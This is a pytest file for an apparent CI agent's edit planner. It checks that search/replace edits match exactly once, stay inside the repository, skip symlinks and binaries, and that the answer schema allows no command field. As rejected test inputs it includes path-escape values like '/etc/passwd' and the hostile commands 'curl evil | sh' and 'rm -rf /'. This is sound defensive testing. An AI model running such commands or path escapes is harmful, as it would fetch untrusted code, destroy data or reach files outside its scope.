"""Search/replace edits: exact single matches, paths inside the repository, no commands."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import ValidationError

from ci_agent.change.edits import Edit, PatchProposal, plan_edits, safe_path, write_plan
from ci_agent.llm.structured import strict_schema


def _proposal(*edits: tuple[str, str, str]) -> PatchProposal:
    return PatchProposal(
        explanation="x", edits=[Edit(path=p, search=s, replace=r) for p, s, r in edits]
    )


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "m.py").write_text("a = 1\nb = 1\nc = 2\n")
    return tmp_path


def test_an_exact_single_match_is_replaced(root: Path) -> None:
    plan = plan_edits(root, _proposal(("pkg/m.py", "c = 2", "c = 3")))
    assert plan.ok
    assert plan.changes[0].after == "a = 1\nb = 1\nc = 3\n"
    assert (root / "pkg" / "m.py").read_text().endswith("c = 2\n")  # nothing written yet
    write_plan(root, plan.changes)
    assert (root / "pkg" / "m.py").read_text().endswith("c = 3\n")


def test_edits_apply_in_order_on_the_same_file(root: Path) -> None:
    plan = plan_edits(
        root, _proposal(("pkg/m.py", "a = 1", "a = 5"), ("./pkg/m.py", "a = 5\nb", "x"))
    )
    assert plan.ok and plan.changes[0].after == "x = 1\nc = 2\n"


def test_no_match_and_two_matches_are_refused_with_reasons(root: Path) -> None:
    plan = plan_edits(root, _proposal(("pkg/m.py", "z = 9", "z = 1"), ("pkg/m.py", "= 1", "= 2")))
    assert not plan.ok and plan.changes == ()
    assert "edit 1 (pkg/m.py): the search text was not found" in plan.refused[0]
    assert "edit 2 (pkg/m.py): the search text matches 2 times" in plan.refused[1]


@pytest.mark.parametrize("path", ["../x.py", "/etc/passwd", "pkg/../../x.py", "C:/x.py"])
def test_paths_outside_the_repository_are_refused(root: Path, path: str) -> None:
    plan = plan_edits(root, _proposal((path, "a", "b")))
    assert "outside the repository" in plan.refused[0]
    assert safe_path(root, path) is None


def test_missing_files_symlinks_and_binaries_are_refused(root: Path) -> None:
    (root / "link.py").symlink_to(root / "pkg" / "m.py")
    (root / "bin.dat").write_bytes(b"a\0b")
    plan = plan_edits(
        root, _proposal(("new.py", "a", "b"), ("link.py", "a = 1", "a"), ("bin.dat", "a", "b"))
    )
    assert [r.split(": ", 1)[1] for r in plan.refused] == [
        "no such file (edits change existing files only)",
        "link.py is a symbolic link; edit the file by its own path",
        "not an editable text file",
    ]


def test_an_edit_through_a_linked_folder_is_refused(root: Path) -> None:
    # docs -> pkg: an edit of docs/m.py would change pkg/m.py under another name.
    (root / "docs").symlink_to(root / "pkg")
    plan = plan_edits(root, _proposal(("docs/m.py", "a = 1", "a = 2")))
    assert plan.refused == (
        "edit 1 (docs/m.py): docs is a symbolic link; edit the file by its own path",
    )
    assert plan_edits(root, _proposal(("pkg/m.py", "a = 1", "a = 2"))).ok


def test_an_edit_that_changes_nothing_is_refused(root: Path) -> None:
    assert plan_edits(root, _proposal(("pkg/m.py", "c = 2", "c = 2"))).refused == (
        "the edits change nothing",
    )


def test_the_answer_schema_has_no_command_and_forbids_extra_fields() -> None:
    schema = json.dumps(strict_schema(PatchProposal))
    for word in ("command", "shell", "run", "script"):
        assert f'"{word}"' not in schema
    with pytest.raises(ValidationError):
        PatchProposal.model_validate({"explanation": "x", "edits": [], "command": "curl evil | sh"})
    with pytest.raises(ValidationError):
        Edit.model_validate({"path": "a", "search": "b", "replace": "c", "command": "rm -rf /"})
